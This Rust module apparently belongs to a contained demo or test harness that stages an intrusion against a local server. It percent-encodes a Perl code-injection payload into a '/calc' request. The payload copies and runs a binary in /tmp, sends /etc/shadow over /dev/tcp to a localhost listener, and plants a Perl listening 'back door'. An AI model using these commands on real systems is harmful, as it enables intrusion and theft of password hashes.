//! Whoever breaks in: one request, and the two connections it leads to.

use std::io::Read as _;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};

use super::http;
use super::interrupt::Interrupt;
use super::server::{Server, free_port};

/// Says who it is to the first that calls, and is gone after ten seconds in any case.
const BACK_DOOR: &str = "alarm 10; my $door = IO::Socket::INET->new(Listen => 1, ReuseAddr => 1, \
    LocalAddr => $ARGV[0]) or die; print {$door->accept} \"in\\n\";";

pub(super) struct Intruder {
    /// Where the intruder waits for the server to call back.
    waiting: TcpListener,
    back_door: SocketAddr,
    script: Vec<String>,
}

/// What the intruder got away with; the secret itself is thrown away.
pub(super) struct Haul {
    pub(super) bytes: usize,
}

impl Intruder {
    /// What is dropped lies in `dir`, which is below /tmp and removed at the end.
    pub(super) fn prepare(dir: &Path) -> Result<Self> {
        let waiting = TcpListener::bind(("127.0.0.1", free_port(4_444)?))?;
        waiting.set_nonblocking(true)?;
        let back_door = SocketAddr::from(([127, 0, 0, 1], free_port(31_337)?));
        let drop = dir.join(".update");
        let (drop, caller) = (drop.display(), waiting.local_addr()?);
        let script = vec![
            format!("cp /usr/bin/id {drop} && {drop} >/dev/null"),
            format!("bash -c 'cat /etc/shadow >/dev/tcp/{}/{}'", caller.ip(), caller.port()),
            format!("perl -MIO::Socket::INET -e '{BACK_DOOR}' {back_door} >/dev/null 2>&1 &"),
        ];
        Ok(Self { waiting, back_door, script })
    }

    /// What happens on the server, for a person.
    pub(super) fn steps(&self) -> [String; 3] {
        let caller = self.waiting.local_addr().map_or_else(|_| String::new(), |at| at.to_string());
        [
            "copy a program to /tmp and run it".to_owned(),
            format!("read /etc/shadow and send it to {caller}, where the intruder waits"),
            format!("leave a back door that listens on {}", self.back_door),
        ]
    }

    pub(super) fn break_in(&self, server: &Server, interrupt: &Interrupt) -> Result<Haul> {
        // Braces quote in Perl, and nest; the script's own are balanced.
        let perl = format!("system('/bin/sh', '-c', q{{{}}})", self.script.join("\n"));
        let answer = http::get(server.port, &format!("/calc?{}", http::percent_encode(&perl)))?;
        ensure!(answer.status == 200, "the break-in was answered with {}", answer.status);
        let bytes = self.take_the_call(interrupt)?;
        ensure!(bytes > 0, "the server called the intruder back but sent nothing");
        self.use_the_back_door(interrupt)?;
        Ok(Haul { bytes })
    }

    fn take_the_call(&self, interrupt: &Interrupt) -> Result<usize> {
        let (stream, _) = retry(interrupt, || self.waiting.accept())
            .context("the server did not call the intruder back")?;
        stream.set_nonblocking(false)?;
        read_to_end(stream).map(|secret| secret.len())
    }

    fn use_the_back_door(&self, interrupt: &Interrupt) -> Result<()> {
        let stream = retry(interrupt, || TcpStream::connect(self.back_door))
            .context("the back door does not open")?;
        ensure!(read_to_end(stream)? == b"in\n", "somebody else sits behind the back door");
        Ok(())
    }
}

fn read_to_end(mut stream: TcpStream) -> Result<Vec<u8>> {
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut bytes = Vec::new();
    stream.read_to_end(&mut bytes)?;
    Ok(bytes)
}

/// For five seconds: what was just started may take a moment.
fn retry<T>(interrupt: &Interrupt, mut attempt: impl FnMut() -> std::io::Result<T>) -> Result<T> {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        match attempt() {
            Ok(done) => return Ok(done),
            Err(error) if Instant::now() > deadline => return Err(error.into()),
            Err(_) => interrupt.pause(Duration::from_millis(20))?,
        }
    }
}
